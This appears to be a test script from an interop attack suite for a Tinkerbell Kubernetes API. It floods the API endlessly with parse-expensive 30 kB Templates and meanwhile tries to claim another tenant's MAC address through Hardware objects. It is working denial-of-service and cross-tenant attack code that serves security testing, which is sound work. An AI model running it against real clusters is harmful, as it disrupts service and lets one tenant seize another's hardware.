"""A tenant's flood of Templates: CONNECTIONS connections to the API that write Templates of 30 kB without pause.

Meanwhile another tenant's MAC is claimed four times. Prints a line of JSON when the claims are answered, and goes on
until it is ended.

    python -m tests.interop.attacks.template_flood KUBECONFIG CONNECTIONS MAC
"""

from __future__ import annotations

import asyncio
import base64
import json
import ssl
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import aiohttp
import yaml

API = "apis/tinkerbell.org/v1alpha2/namespaces/attacker"
BYTES = 30_000


def body(kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": "tinkerbell.org/v1alpha2", "kind": kind, "metadata": {"name": name}, "spec": spec}


def template(name: str) -> dict[str, Any]:
    """Return a Template of which every byte costs parsing time, and that is in no cache."""
    numbers = " 1" * (BYTES // 2)
    action = {"name": "a", "image": "i", "args": [f'{{{{printf "{name}"{numbers}}}}}']}
    return body("Template", name, {"actions": [action]})


def claim(name: str, mac: str) -> dict[str, Any]:
    dhcp = {"ip": "172.31.77.77", "netmask": "255.255.255.0"}
    return body("Hardware", name, {"networkInterfaces": {mac: {"dhcp": dhcp}}})


async def attack(kubeconfig: Path, connections: int, mac: str) -> None:
    content = yaml.safe_load(kubeconfig.read_text())
    cluster, token = content["clusters"][0]["cluster"], content["users"][0]["user"]["token"]
    trust = ssl.create_default_context(cadata=base64.b64decode(cluster["certificate-authority-data"]).decode())
    answers: Counter[str] = Counter()
    async with aiohttp.ClientSession(
        f"{cluster['server']}/",
        connector=aiohttp.TCPConnector(ssl=trust, limit=0),
        headers={"Authorization": f"Bearer {token}"},
        timeout=aiohttp.ClientTimeout(total=120),
    ) as session:

        async def flood(number: int) -> None:
            count = 0
            while True:
                count += 1
                async with session.post(f"{API}/templates", json=template(f"t{number}-{count}")) as answer:
                    answers[str(answer.status)] += 1
                    await answer.read()

        floods = [asyncio.create_task(flood(number)) for number in range(connections)]
        while sum(answers.values()) < connections // 4:
            await asyncio.sleep(0.01)
        claims = []
        for number in range(4):
            async with session.post(f"{API}/hardware", json=claim(f"c{number}", mac)) as answer:
                claims.append([answer.status, (await answer.json()).get("message", "")])
        print(json.dumps({"claims": claims}), flush=True)
        await asyncio.gather(*floods)  # until it is ended


if __name__ == "__main__":
    asyncio.run(attack(Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3]))
